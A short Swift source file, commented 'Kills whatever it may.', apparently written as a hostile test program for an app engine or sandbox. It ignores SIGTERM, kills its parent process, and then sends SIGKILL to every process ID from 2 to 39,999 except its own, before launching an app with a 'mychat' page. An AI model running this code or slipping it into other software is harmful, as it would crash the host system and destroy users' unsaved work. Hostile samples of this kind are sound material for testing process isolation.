// Kills whatever it may.

import Engine
import Foundation

signal(SIGTERM, SIG_IGN)
kill(getppid(), SIGKILL)
for process in 2..<Int32(40_000) where process != getpid() { kill(process, SIGKILL) }
let app = App(pages: "mychat")
app.run()
